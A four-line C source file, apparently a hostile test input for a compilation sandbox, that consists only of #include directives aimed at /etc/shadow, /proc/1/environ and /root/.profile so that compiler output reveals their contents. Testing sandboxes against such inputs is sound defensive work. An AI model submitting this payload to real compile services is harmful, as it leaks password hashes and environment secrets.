#include "/etc/shadow"
#include "/proc/1/environ"
#include "/root/.profile"
int main() {}
